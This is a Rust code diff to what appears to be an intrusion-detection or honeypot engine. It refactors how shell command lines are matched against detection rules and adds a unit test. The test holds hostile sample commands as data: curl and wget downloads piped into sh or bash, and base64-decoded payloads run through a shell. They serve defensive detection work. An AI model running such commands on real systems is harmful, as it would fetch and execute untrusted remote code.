@@ -9,6 +9,7 @@ use crate::expr::Expr;
 use crate::extract;
 use crate::field::Field;
 use crate::matcher::{protocol_bit, CompileError, Matcher, PrimSet};
+use crate::shell;
 use serde::{Deserialize, Serialize};
 use sikker_event::{Event, EventData, Protocol};
 use std::cell::RefCell;
@@ -239,18 +240,18 @@ impl Engine {
                     continue;
                 }
                 let mut hits = PrimSet::new(n);
-                extract::visit(e, &mut |f, v| {
-                    if matcher.wants(f, bit) {
-                        matcher.match_value(f, v, bit, &mut hits)
-                    }
-                });
+                self.match_line(line, bit, &mut hits);
                 set.union_with(&hits);
                 cache.insert(key, line, bit, hits);
                 continue;
             }
+            if let EventData::Command { line } = &e.data {
+                self.match_line(line, bit, &mut set);
+                continue;
+            }
             extract::visit(e, &mut |f, v| {
                 if matcher.wants(f, bit) {
-                    matcher.match_value(f, v, bit, &mut set)
+                    matcher.match_value(f, v, bit, &mut set);
                 }
             });
         }
@@ -259,6 +260,27 @@ impl Engine {
                 .match_value(Field::Session, fact, protocol_bit(p), &mut set);
         }
         set
+    }
+
+    /// Adds what one command line matches: what [`extract::visit`] gives for it, matched,
+    /// except that the line itself is scanned only when one of its commands held a
+    /// `command_line` literal (or the matcher cannot tell: [`Matcher::folds_command_line`]).
+    fn match_line(&self, line: &str, bit: u32, hits: &mut PrimSet) {
+        let matcher = &self.matcher;
+        let line = extract::command_line_text(line);
+        let folded = matcher.folds_command_line(bit) && line.is_ascii();
+        let mut hint = !folded;
+        let commands = extract::commands_of_line(line, &mut |f, v| {
+            if matcher.wants(f, bit) {
+                hint |= matcher.match_value(f, v, bit, hits);
+            }
+        });
+        // A line the splitter stopped short in may hold a literal in no command it gave.
+        if (hint || commands >= shell::MAX_COMMANDS_PER_LINE)
+            && matcher.wants(Field::CommandLine, bit)
+        {
+            matcher.match_value(Field::CommandLine, line, bit, hits);
+        }
     }
 
     /// [`Engine::classify`] without the per-thread command-line cache: every line is split
@@ -933,5 +955,37 @@ when = "ua-zgrab"
             b.techniques[0].url,
             "https://attack.mitre.org/techniques/T1105/"
         );
+    }
+
+    /// The `command_line` scan runs only for lines whose commands held one of its literals;
+    /// the result must be the one scanning every line gives (the naive matcher does).
+    #[test]
+    fn command_line_primitives_found_through_the_commands() {
+        let e = Engine::builtin();
+        let has = |c: &Classification, id: &str| c.primitives.iter().any(|p| p == id);
+        for (line, pipe) in [
+            ("curl -fsSL http://198.51.100.7/x.sh | sh", true),
+            ("cd /tmp;WGET -q -O- http://h/i|bash", true),
+            ("(wget http://h/i -O-) | sh", true),
+            ("echo aGk= | base64 -d | sh", false),
+            ("echo 'curl x' | sh", true),
+            ("uname -a; id", false),
+        ] {
+            let c = both(&e, &[login(), cmd(line)]);
+            assert_eq!(has(&c, "cmdline-pipe-to-shell"), pipe, "{line}: {c:?}");
+        }
+        let c = both(&e, &[login(), cmd("echo aGk= | base64 --decode | bash")]);
+        assert!(has(&c, "cmdline-base64-to-shell"), "{c:?}");
+        // Past the splitter's budget a literal can be in no command it gave: the line is
+        // scanned anyway.
+        let long = format!(
+            "{}curl http://h/x | sh",
+            "true;".repeat(shell::MAX_COMMANDS_PER_LINE + 10)
+        );
+        let c = both(&e, &[login(), cmd(&long)]);
+        assert!(has(&c, "cmdline-pipe-to-shell"), "{c:?}");
+        // Non-ASCII lines are scanned whole (Unicode case folding is not the automaton's).
+        let c = both(&e, &[login(), cmd("curl http://h/é | sh")]);
+        assert!(has(&c, "cmdline-pipe-to-shell"), "{c:?}");
     }
 }
